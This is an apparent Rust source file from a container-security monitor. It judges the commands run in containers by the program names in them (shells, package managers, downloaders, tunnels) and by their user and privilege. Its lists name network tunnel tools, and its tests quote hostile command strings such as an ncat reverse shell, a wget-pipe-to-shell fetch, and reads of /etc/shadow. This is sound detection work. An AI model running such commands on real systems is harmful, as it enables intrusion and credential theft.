//! Commands that are run in containers: which of them open a shell, install, fetch or tunnel, and as whom they run.
//!
//! The command is judged by the names of the programs in it. Who brings a shell under another name is not seen here;
//! that somebody ran something is.

use std::hash::{BuildHasher, RandomState};
use std::sync::OnceLock;

use crate::docker::inspect::{Container, Exec, ProcessConfig};

use super::Event;
use super::baseline::Seen;
use super::command::{self, Category, Found};
use super::risk::{is_root, probe};

pub(super) const SHELLS: Names = Names::of(&[
    "ash",
    "bash",
    "bash-static",
    "cmd.exe",
    "csh",
    "dash",
    "elvish",
    "fish",
    "hush",
    "ksh",
    "ksh93",
    "loksh",
    "mksh",
    "oksh",
    "powershell",
    "pwsh",
    "rbash",
    "sash",
    "sh",
    "tcsh",
    "yash",
    "zsh",
]);

/// What starts another program, or can.
const WRAPPERS: Names = Names::of(&[
    "awk",
    "busybox",
    "chpst",
    "chroot",
    "doas",
    "dumb-init",
    "env",
    "exec",
    "expect",
    "find",
    "flock",
    "gawk",
    "gosu",
    "ionice",
    "lua",
    "nice",
    "node",
    "nodejs",
    "nohup",
    "nsenter",
    "perl",
    "php",
    "python",
    "ruby",
    "runuser",
    "s6-setuidgid",
    "script",
    "setarch",
    "setpriv",
    "setsid",
    "stdbuf",
    "su",
    "su-exec",
    "sudo",
    "taskset",
    "timeout",
    "tini",
    "toybox",
    "unshare",
    "xargs",
]);

const PACKAGE_MANAGERS: Names = Names::of(&[
    "apk", "apt", "apt-get", "aptitude", "brew", "cargo", "conda", "dnf", "dpkg", "emerge", "gem", "microdnf", "npm",
    "opkg", "pacman", "pip", "pip3", "pnpm", "rpm", "yum", "zypper",
]);

pub(super) const DOWNLOADERS: Names = Names::of(&[
    "aria2c", "axel", "curl", "ftp", "git", "lftp", "lynx", "rsync", "scp", "sftp", "svn", "tftp", "wget", "wget2",
]);

const TUNNELS: Names = Names::of(&["chisel", "frpc", "nc", "ncat", "netcat", "ngrok", "ptcp", "socat", "telnet"]);

/// What a command does, by the names in it.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Command {
    /// The shell it opens.
    pub shell: Option<&'static str>,
    /// The package manager it runs.
    pub package_manager: Option<&'static str>,
    /// What it fetches or sends files with.
    pub download: Option<&'static str>,
    /// What it opens connections with.
    pub tunnel: Option<&'static str>,
}

/// Which bytes below 128 belong to a word: commands of a megabyte are looked at byte by byte.
#[allow(clippy::indexing_slicing, reason = "done by the compiler, which would refuse")]
const PARTS: [bool; 128] = {
    let mut parts = [false; 128];
    let mut byte = 0_u8;
    while byte < 128 {
        parts[byte as usize] =
            byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'/' | b'+' | b'@' | b':');
        byte += 1;
    }
    parts
};

/// The words of a command line: paths, options and names, without quotes and what joins commands.
pub(super) fn words(command: &str) -> impl Iterator<Item = &str> {
    let mut rest = command;
    std::iter::from_fn(move || {
        let start = place(rest, 0, true)?;
        let first = rest.get(start..)?.chars().next()?;
        let end = place(rest, start + first.len_utf8(), false).unwrap_or(rest.len());
        let word = rest.get(start..end)?;
        rest = rest.get(end..).unwrap_or_default();
        Some(word)
    })
}

/// The first place from this one on of a character that belongs to a word, or of one that belongs to none.
fn place(text: &str, from: usize, belongs: bool) -> Option<usize> {
    let mut start = from;
    loop {
        let rest = text.get(start..)?;
        let at =
            rest.bytes().position(|byte| PARTS.get(usize::from(byte)).is_none_or(|is_part| *is_part == belongs))?;
        let found = rest.get(at..)?.chars().next()?;
        if found.is_ascii() || is_alphanumeric(found) == belongs {
            return Some(start + at);
        }
        start += at + found.len_utf8();
    }
}

/// What [`char::is_alphanumeric`] says, which takes ten times as long for some characters.
fn is_alphanumeric(c: char) -> bool {
    /// For each character of 16 bits one bit.
    static KNOWN: OnceLock<Vec<u64>> = OnceLock::new();
    let Ok(code) = u16::try_from(u32::from(c)) else { return c.is_alphanumeric() };
    let bits = |word: u32| {
        let is_set = |bit: &u32| char::from_u32(word * 64 + bit).is_some_and(char::is_alphanumeric);
        (0..64).filter(is_set).fold(0_u64, |bits, bit| bits | 1 << bit)
    };
    let known = KNOWN.get_or_init(|| (0..1024).map(bits).collect());
    known.get(usize::from(code / 64)).is_some_and(|bits| bits >> (code % 64) & 1 != 0)
}

/// Names of programs.
pub(super) struct Names {
    names: &'static [&'static str],
    /// For each length of a name the letters that names of that length begin with, as bits: most words are no name, and
    /// need no comparison.
    beginnings: [u32; 24],
}

impl Names {
    #[allow(clippy::indexing_slicing, reason = "done by the compiler, which would refuse")]
    const fn of(names: &'static [&'static str]) -> Self {
        let mut beginnings = [0; 24];
        let mut name = 0;
        while name < names.len() {
            let bytes = names[name].as_bytes();
            beginnings[bytes.len()] |= 1 << (bytes[0] & 31);
            name += 1;
        }
        Self { names, beginnings }
    }

    fn find(&self, name: &str) -> Option<&'static str> {
        // Capital and small letters differ in higher bits only.
        let letters = self.beginnings.get(name.len())?;
        if letters & (1 << (name.bytes().next()? & 31)) == 0 {
            return None;
        }
        self.names.iter().find(|known| known.eq_ignore_ascii_case(name)).copied()
    }
}

/// The name of a program in its path.
fn name_of(word: &str) -> &str {
    word.bytes().rposition(|byte| byte == b'/').map_or(word, |slash| word.get(slash + 1..).unwrap_or_default())
}

pub(super) fn known(names: &Names, word: &str) -> Option<&'static str> {
    names.find(name_of(word))
}

/// Whether a word is a shell, by its name or path.
pub(super) fn is_shell(word: &str) -> bool {
    known(&SHELLS, word).is_some()
}

/// Whether a word is a program of any of the lists above, by its name or path.
pub(super) fn is_program(word: &str) -> bool {
    [&SHELLS, &WRAPPERS, &PACKAGE_MANAGERS, &DOWNLOADERS, &TUNNELS].iter().any(|names| known(names, word).is_some())
}

pub(super) fn is_wrapper(word: &str) -> bool {
    // `python3.11` is Python, and a loader runs whatever it is given.
    let name = name_of(word);
    let is_loader = name.starts_with("ld-") && name.contains(".so");
    is_loader || WRAPPERS.find(name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')).is_some()
}

/// Judges a command line as events have it.
#[must_use]
pub fn of_command(command: &str) -> Command {
    let mut found = Command::default();
    let mut may_be_shell = true;
    for (place, word) in words(command).enumerate() {
        let name = name_of(word);
        if may_be_shell && found.shell.is_none() {
            found.shell = SHELLS.find(name);
            // Behind the program a shell counts only where that runs another.
            may_be_shell = place > 0 || is_wrapper(word);
        }
        found.package_manager = found.package_manager.or_else(|| PACKAGE_MANAGERS.find(name));
        found.download = found.download.or_else(|| DOWNLOADERS.find(name));
        found.tunnel = found.tunnel.or_else(|| TUNNELS.find(name));
    }
    found
}

/// The simple commands of a command line.
pub(super) fn simple_commands(command: &str) -> impl Iterator<Item = &str> {
    command.split([';', '|', '&', '\n', '(', ')', '`'])
}

/// Whether a simple command opens a connection that carries something; `nc -z` only knocks.
pub(super) fn opens_connection(simple: &str) -> bool {
    // What stands behind a sign of a comment is none of it.
    let simple = simple.split(" #").next().unwrap_or_default();
    let mut words = words(simple);
    let Some(tool) = words.find_map(|word| known(&TUNNELS, word)) else { return false };
    let options = words.filter(|word| word.starts_with('-') && !word.starts_with("--"));
    let mut only_knocks = false;
    for option in options {
        let letters = option.trim_start_matches('-').trim_end_matches(|c: char| c.is_ascii_digit());
        if !letters.chars().all(|letter| "zvnuw46".contains(letter)) {
            return true;
        }
        only_knocks |= letters.contains('z');
    }
    let quiet = ["2>&1", ">/dev/null", "> /dev/null", "</dev/null", "< /dev/null", "2>"];
    let rest = quiet.iter().fold(simple.to_owned(), |rest, harmless| rest.replace(harmless, " "));
    !matches!(tool, "nc" | "ncat" | "netcat") || !only_knocks || rest.contains(['<', '>']) || simple.contains("exec")
}

/// What a command with a terminal and an input is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Session {
    /// Somebody types into it.
    Typed,
    /// Somebody types into a client of a service, which was given what to connect to.
    Client,
}

impl Session {
    /// One word for rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Typed => "typed",
            Self::Client => "client",
        }
    }

    fn of(exec: &Exec) -> Option<Self> {
        let process = &exec.process_config;
        let is_client = known(&CLIENTS, &process.entrypoint).is_some() && !process.arguments.is_empty();
        (process.tty && exec.open_stdin).then_some(if is_client { Self::Client } else { Self::Typed })
    }
}

/// Clients of services; who types into one asks a database, and no system.
const CLIENTS: Names = Names::of(&[
    "clickhouse-client",
    "cqlsh",
    "influx",
    "mariadb",
    "mongo",
    "mongosh",
    "mysql",
    "psql",
    "redis-cli",
    "sqlcmd",
    "valkey-cli",
]);

/// What is known of a command that is run in a container.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Facts {
    /// The command line.
    pub line: String,
    /// Whether it runs from now on, or is only made ready.
    pub runs: bool,
    /// What it does, by the names in it.
    pub command: Command,
    /// What it does, by the programs that it runs and what they are given.
    pub found: Found,
    /// Whether somebody types into it.
    pub interactive: Option<bool>,
    /// Whether it has a terminal and an input.
    pub session: Option<Session>,
    /// As whom it runs.
    pub user: Option<String>,
    /// Whether it may do nearly everything.
    pub privileged: Option<bool>,
    /// Whether it is the container's own health check, run by the engine.
    pub probe: Option<bool>,
    /// The [`fingerprint`] of the whole command line.
    pub fingerprint: u64,
    /// The program and its arguments, each for itself; empty where the engine has not told them.
    pub arguments: Vec<String>,
    /// Whether it was seen before in containers of its image.
    pub seen: Seen,
}

impl Facts {
    /// Whether the engine has said what may be done in it.
    #[must_use]
    pub fn is_answered(&self) -> bool {
        self.privileged.is_some() && self.interactive.is_some()
    }

    /// What is found in the command with its arguments each for itself, where the engine has kept all of them.
    fn found_in(&self, process: &ProcessConfig) -> Found {
        let argv = || std::iter::once(&process.entrypoint).chain(&process.arguments).map(String::as_str);
        let length = argv().map(|argument| argument.len() + 1).sum::<usize>();
        let mut found = command::of_argv(argv());
        if length < self.line.trim_end().len() || self.line.len() >= COMPARED {
            found.add_all(&self.found);
        }
        found
    }

    /// Whether it may be known from before: it was answered what may be done in it, and nothing in it is grave.
    #[must_use]
    pub fn may_be_known(&self) -> bool {
        self.is_answered() && self.command.tunnel.is_none() && !self.found.is_grave()
    }

    /// Whether it opens a way to the host or does what must be looked at whoever does it.
    #[must_use]
    pub fn is_dangerous(&self) -> bool {
        self.privileged == Some(true) || self.command.tunnel.is_some() || self.found.is_grave()
    }

    /// Whether it runs as root; none where that is not known.
    #[must_use]
    pub fn is_root(&self) -> Option<bool> {
        self.user.as_deref().map(is_root)
    }

    /// With what the engine says. A probe has no terminal and no input, runs as the container's own user and is what the
    /// container was made with, word for word.
    #[must_use]
    pub fn with_answers(self, exec: &Exec, own: Option<&Own>) -> Self {
        let process = &exec.process_config;
        let user = if process.user.is_empty() { own.map(|own| own.user.clone()) } else { Some(process.user.clone()) };
        let interactive = process.tty || (exec.open_stdin && reads_input(&process.entrypoint, &process.arguments));
        let is_probe = |own: &Own| {
            !(process.tty || exec.open_stdin || process.privileged)
                && (process.user.is_empty() || process.user == own.user)
                && own.probe == Some(self.fingerprint)
        };
        Self {
            found: self.found_in(process),
            interactive: Some(interactive),
            session: Session::of(exec),
            user: user.map(|user| if user.is_empty() { "root".to_owned() } else { user }),
            privileged: Some(process.privileged),
            probe: own.map(is_probe),
            arguments: std::iter::once(&process.entrypoint).chain(&process.arguments).cloned().collect(),
            ..self
        }
    }
}

/// Whether a program takes what it does from its input: a shell does unless it is given a command or a script that does
/// not.
fn reads_input(program: &str, arguments: &[String]) -> bool {
    if known(&SHELLS, program).is_none() {
        return true;
    }
    let is_input = |path: &str| path.starts_with("/dev/") || path.starts_with("/proc/");
    let mut has_command = false;
    for argument in arguments {
        match argument.strip_prefix('-') {
            // A name of what is read, or a value that is one.
            _ if has_command => return command_reads_input(argument),
            None if argument.starts_with('+') => return true,
            None => return is_input(argument),
            Some(letters) if letters.is_empty() || letters.contains(['-', 's', 'i', 'o', 'O']) => return true,
            Some(letters) => has_command = letters.contains('c'),
        }
    }
    true
}

/// Whether a command of a shell gives its input to a shell again.
fn command_reads_input(command: &str) -> bool {
    const READERS: [&str; 4] = ["read", "eval", "source", "mapfile"];
    let is_reader = |word: &str| {
        let word = word.trim_matches(['\'', '"']);
        word == "." || READERS.contains(&word) || known(&SHELLS, word).is_some()
    };
    ["/dev/stdin", "/dev/fd", "/proc/self", "$(cat)", "`cat`"].iter().any(|input| command.contains(input))
        || command.split([' ', '\t', '\n', ';', '|', '&', '(', ')', '`', '$']).any(is_reader)
}

/// The names of what there is to find in a command, as exceptions call it.
#[must_use]
pub fn findings(facts: &Facts) -> Vec<&'static str> {
    let Command { shell, package_manager, download, tunnel } = facts.command;
    let is_typed = shell.is_some() && facts.interactive == Some(true);
    let by_name = [
        (facts.privileged == Some(true), "exec_privileged"),
        (is_typed, "exec_typed_shell"),
        (shell.is_some() && !is_typed, "exec_shell"),
        (tunnel.is_some(), "exec_tunnel"),
        (download.is_some(), "exec_download"),
        (package_manager.is_some(), "exec_package_manager"),
    ];
    let mut names: Vec<_> = by_name.into_iter().filter_map(|(is_found, name)| is_found.then_some(name)).collect();
    if shell.is_none() && facts.session == Some(Session::Typed) {
        names.push("exec_session");
    }
    for category in facts.found.categories() {
        // A shell that is typed into has its own name; looking around needs no exception.
        let is_named = names.contains(&category.finding()) || (category == Category::Shell && is_typed);
        if !is_named && category != Category::Discovery {
            names.push(category.finding());
        }
    }
    names
}

/// So many words of a command are looked at to tell it from others.
const MAX_WORDS: usize = 256;

/// Words of shells behind which a command stands.
const KEYWORDS: [&str; 20] = [
    "if", "then", "else", "elif", "do", "while", "until", "for", "in", "{", "}", "!", "time", "command", "builtin",
    "eval", ".", "source", "exec", "trap",
];

/// What tells one kind of command from another: its programs with their paths in their order, where it writes to and reads
/// from, as whom it runs, and what it may do. Two that differ in their arguments are the same. `None` for what is too long
/// to be told from others.
#[must_use]
pub fn signature(facts: &Facts) -> Option<String> {
    let mut parts: Vec<&str> = Vec::new();
    let mut is_program = true;
    // Of what starts other programs every word may be one.
    let mut is_wrapped = false;
    let mut words = facts.line.split([' ', '\t', '\n']).filter(|word| !word.is_empty());
    for word in words.by_ref().take(MAX_WORDS) {
        if word.contains(['<', '>']) || parts.last().is_some_and(|last| last.ends_with(['<', '>'])) {
            parts.push(word);
        }
        let ends_command = word.ends_with([';', '|', '&', '(', '`']);
        for (place, part) in word.split([';', '|', '&', '(', ')', '`']).enumerate() {
            if place > 0 {
                (is_program, is_wrapped) = (true, false);
            }
            let part = part.trim_matches(['\'', '"']);
            if part.is_empty() || !(is_program || is_wrapped) || (part.starts_with('-') && !is_wrapped) {
                continue;
            }
            if is_program && is_assignment(part) {
                continue;
            }
            parts.push(part);
            let name = name_of(part);
            is_wrapped |= is_wrapper(part);
            // What these are given is a program too.
            is_program = SHELLS.find(name).is_some() || KEYWORDS.contains(&part);
        }
        if ends_command {
            (is_program, is_wrapped) = (true, false);
        }
    }
    if words.next().is_some() {
        return None;
    }
    let Command { shell, package_manager, download, tunnel } = facts.command;
    let found = [shell, package_manager, download, tunnel].map(|name| name.unwrap_or("-")).join(" ");
    let user = facts.user.as_deref().unwrap_or("?");
    let categories: Vec<&str> = facts.found.categories().map(Category::name).collect();
    Some(format!(
        "{}\0{found} {}\0{user}\0{:?}\0{:?}",
        parts.join(" "),
        categories.join(" "),
        facts.interactive,
        facts.privileged
    ))
}

/// Whether a word sets a variable.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    })
}

/// No user's name is longer, in characters; thousands of containers are remembered.
const MAX_USER: usize = 256;

/// What stands for a command that must be the same to the letter. With a new key in each process, so that nobody can make
/// another command with the same.
#[must_use]
pub fn fingerprint(command: &str) -> u64 {
    static KEY: OnceLock<RandomState> = OnceLock::new();
    KEY.get_or_init(RandomState::new).hash_one(command.trim_end())
}

/// What a container runs by itself.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Own {
    /// As whom; empty is root.
    pub user: String,
    /// What probes its health, by its [`fingerprint`].
    pub probe: Option<u64>,
}

impl Own {
    /// Of this container.
    #[must_use]
    pub fn of(container: &Container) -> Self {
        let user = container.config.user.chars().take(MAX_USER).collect();
        Self { user, probe: probe(container).map(|probe| fingerprint(&probe)) }
    }
}

/// The command line of an event that tells of one.
#[must_use]
pub fn command<'e>(event: &'e Event<'_>) -> Option<&'e str> {
    let action = event.action();
    ["exec_create: ", "exec_start: ", "exec_detach: "].iter().find_map(|verb| action.strip_prefix(verb))
}

/// What is known of a command line alone.
fn of_line(line: &str) -> Facts {
    let mut command = of_command(line);
    if command.tunnel.is_some() && !simple_commands(line).any(opens_connection) {
        command.tunnel = None;
    }
    if command.tunnel.is_none() {
        command.tunnel = ["/dev/tcp", "/dev/udp"].into_iter().find(|device| line.contains(device));
    }
    let found = command::of_line(line);
    Facts { line: line.to_owned(), command, found, fingerprint: fingerprint(line), ..Facts::default() }
}

/// What is known of an event's command from its event alone.
#[must_use]
pub fn of_event(event: &Event<'_>) -> Option<Facts> {
    let runs = event.action().starts_with("exec_start");
    command(event).map(|line| Facts { runs, ..of_line(line) })
}

/// Whether an event tells of a command and not which: Podman's do.
#[must_use]
pub fn is_nameless(event: &Event<'_>) -> bool {
    event.kind() == "container" && event.action() == "exec"
}

/// What is known of a command that only the engine tells of.
#[must_use]
pub fn of_exec(exec: &Exec) -> Facts {
    let process = &exec.process_config;
    Facts { runs: true, ..of_line(&format!("{} {}", process.entrypoint, process.arguments.join(" "))) }
}

/// Whether an exec is the one that an event tells of.
#[must_use]
pub fn is_of(exec: &Exec, command: &str) -> bool {
    let process = &exec.process_config;
    let said = format!("{} {}", process.entrypoint, process.arguments.join(" "));
    beginning(&said) == beginning(command)
}

/// So much of a command tells it from others, in bytes; of longer ones no more is kept everywhere.
pub const COMPARED: usize = 1024;

fn beginning(command: &str) -> &[u8] {
    let command = command.trim_end().as_bytes();
    command.get(..COMPARED).unwrap_or(command)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_part(c: char) -> bool {
        c.is_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | '+' | '@' | ':')
    }

    #[test]
    fn what_belongs_to_a_word_is_what_is_known_of_each_character() {
        assert!((char::MIN..=char::MAX).all(|c| is_alphanumeric(c) == c.is_alphanumeric()));
    }

    #[test]
    fn words_are_what_a_split_at_all_other_characters_gives() {
        for text in [
            "",
            " ",
            "a",
            " a b ",
            "/bin/sh -c 'x;y'",
            "ünï ça\u{1F600}va é\u{ad}x",
            "\u{1F600}",
            "a\u{1F600}",
            "\u{3000}x",
        ] {
            let expected: Vec<&str> = text.split(|c: char| !is_part(c)).filter(|word| !word.is_empty()).collect();
            assert_eq!(words(text).collect::<Vec<_>>(), expected, "{text}");
        }
    }

    #[test]
    fn programs_are_known_by_their_names_wherever_they_lie() {
        for (command, expected) in [
            ("bash ", "bash - - -"),
            ("/bin/sh -c true", "sh - - -"),
            ("/usr/bin/bash -i", "bash - - -"),
            ("busybox sh", "sh - - -"),
            ("busybox env sh", "sh - - -"),
            ("/lib/ld-musl-x86_64.so.1 /bin/sh", "sh - - -"),
            ("flock /x tcsh", "tcsh - - -"),
            ("nodejs -e require('child_process').spawn('/bin/sh')", "sh - - -"),
            ("busybox wget http://x", "- - wget -"),
            ("env A=1 /bin/zsh", "zsh - - -"),
            ("sudo -u root bash", "bash - - -"),
            ("python3.11 -c 'import pty; pty.spawn(\"/bin/bash\")'", "bash - - -"),
            ("find / -exec sh ;", "sh - - -"),
            ("cat /etc/bash", "- - - -"),
            ("ls -l /bin/sh", "- - - -"),
            ("sleep 60", "- - - -"),
            ("node server.js", "- - - -"),
            ("apt-get install -y nmap", "- apt-get - -"),
            ("sh -c 'apk add curl'", "sh apk curl -"),
            ("sh -c \"true;wget -qO- http://x|sh\"", "sh - wget -"),
            ("/usr/bin/curl -s http://x", "- - curl -"),
            ("cat /var/log/apt/history.log", "- - - -"),
            ("ncat -e /bin/sh 10.0.0.1 4444", "- - - ncat"),
            ("", "- - - -"),
        ] {
            let Command { shell, package_manager, download, tunnel } = of_command(command);
            let seen: Vec<&str> =
                [shell, package_manager, download, tunnel].iter().map(|name| name.unwrap_or("-")).collect();
            assert_eq!(seen.join(" "), expected, "{command}");
        }
    }

    #[test]
    fn a_probe_is_the_containers_own_and_nobody_elses() {
        let container: Container = serde_json::from_str(
            r#"{"Config":{"User":"app","Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost/"]}}}"#,
        )
        .unwrap();
        let command = "/bin/sh -c curl -f http://localhost/";
        let probe = |exec: &str, command: &str| {
            let exec: Exec = serde_json::from_str(exec).unwrap();
            of_line(command).with_answers(&exec, Some(&Own::of(&container))).probe
        };
        assert_eq!(probe(r#"{"ProcessConfig":{"user":"app"}}"#, command), Some(true));
        assert_eq!(probe("{}", command), Some(true));
        assert_eq!(probe(r#"{"ProcessConfig":{"user":"root"}}"#, command), Some(false));
        assert_eq!(probe(r#"{"ProcessConfig":{"tty":true}}"#, command), Some(false));
        assert_eq!(probe(r#"{"OpenStdin":true}"#, command), Some(false));
        assert_eq!(probe("{}", "/bin/sh -c curl -f http://localhost/ ; sh"), Some(false));
        assert_eq!(of_line(command).with_answers(&Exec::default(), None).probe, None);
    }

    #[test]
    fn who_gives_a_shell_a_command_does_not_type_into_it() {
        for (arguments, tty, interactive) in [
            (&[][..], false, true),
            (&["-l"], false, true),
            (&["-i"], false, true),
            (&["-s", "x"], false, true),
            (&["-c", "npm test"], false, false),
            (&["-e", "-c", "npm test"], false, false),
            (&["-lc", "npm test"], false, false),
            (&["-e", "/scripts/step.sh"], false, false),
            (&["-ic", "x"], false, true),
            (&["-c", "npm test"], true, true),
            (&["-o", "errexit"], false, true),
            (&["-"], false, true),
            (&["--rcfile", "/dev/null"], false, true),
            (&["-O", "extglob"], false, true),
            (&["+O", "extglob"], false, true),
            (&["/dev/stdin"], false, true),
            (&["/proc/self/fd/0"], false, true),
            (&["-c", "sh"], false, true),
            (&["-c", "exec sh"], false, true),
            (&["-c", ". /dev/stdin"], false, true),
            (&["-c", "eval \"$(cat)\""], false, true),
        ] {
            let exec = serde_json::json!({"OpenStdin": true,
                "ProcessConfig": {"entrypoint": "/bin/sh", "arguments": arguments, "tty": tty}});
            let facts = of_line("sh").with_answers(&serde_json::from_value(exec).unwrap(), None);
            assert_eq!(facts.interactive, Some(interactive), "{arguments:?} {tty}");
        }
    }

    #[test]
    fn a_signature_is_the_programs_and_not_what_they_are_given() {
        let of = |line: &str| {
            let signature = signature(&of_line(line)).unwrap();
            signature.split('\0').next().unwrap().to_owned()
        };
        for (one, other) in [
            ("sh -c pg_dump -U app shop | gzip", "sh -c pg_dump -U app blog | gzip"),
            ("/bin/bash -c cd /app && npm ci", "/bin/bash -c cd /srv && npm test"),
            ("redis-cli ping", "redis-cli info"),
        ] {
            assert_eq!(of(one), of(other), "{one}");
        }
        for (one, other) in [
            ("sh -c cat /etc/hostname", "sh -c cat /etc/shadow >/x"),
            ("sh -c if test -f /x; then pg_dump shop; fi", "sh -c if id; then /tmp/evil; fi"),
            ("sh -c pg_dump shop", "sh -c /tmp/pg_dump shop"),
            ("sh -c pg_dump shop", "sh -c /tmp/x=y pg_dump"),
            ("sh /scripts/a.sh", "sh /dev/shm/a.sh"),
            ("sh -c timeout 5 pg_dump", "sh -c timeout 5 /tmp/evil"),
            ("sh -c find . -name x", "sh -c find . -exec /tmp/evil {} +"),
            ("sh -c echo ok", "sh -c echo x > /etc/cron.d/x"),
            ("sh -c echo ok > /tmp/a", "sh -c echo ok > /tmp/b"),
            ("bash -c while read l; do echo $l; done", "bash -c while true; do cat /etc/shadow; done"),
            ("sh -c true", "sh -c true; cat /etc/shadow"),
            ("sh -c x", "sh -c x curl"),
        ] {
            let (one, other) = (of_line(one), of_line(other));
            assert_ne!(signature(&one), signature(&other), "{} {}", one.line, other.line);
        }
        assert_eq!(signature(&of_line(&format!("sh -c pg_dump {}; /tmp/evil", "x ".repeat(260)))), None);
        let user = |user: &str| signature(&Facts { user: Some(user.to_owned()), ..of_line("id") });
        assert_ne!(user("root"), user("app"));
    }

    #[test]
    fn who_runs_it_is_who_was_named_else_the_containers_user_else_root() {
        let own = |user: &str| Own { user: user.to_owned(), probe: None };
        let exec = |user: &str| serde_json::from_str(&format!(r#"{{"ProcessConfig":{{"user":"{user}"}}}}"#)).unwrap();
        for (of_exec, of_container, user, root) in
            [("", "", "root", true), ("", "app", "app", false), ("0", "app", "0", true), ("app", "", "app", false)]
        {
            let facts = of_line("id").with_answers(&exec(of_exec), Some(&own(of_container)));
            assert_eq!((facts.user.as_deref(), facts.is_root()), (Some(user), Some(root)));
        }
        assert_eq!(of_line("id").with_answers(&exec(""), None).is_root(), None);
    }
}
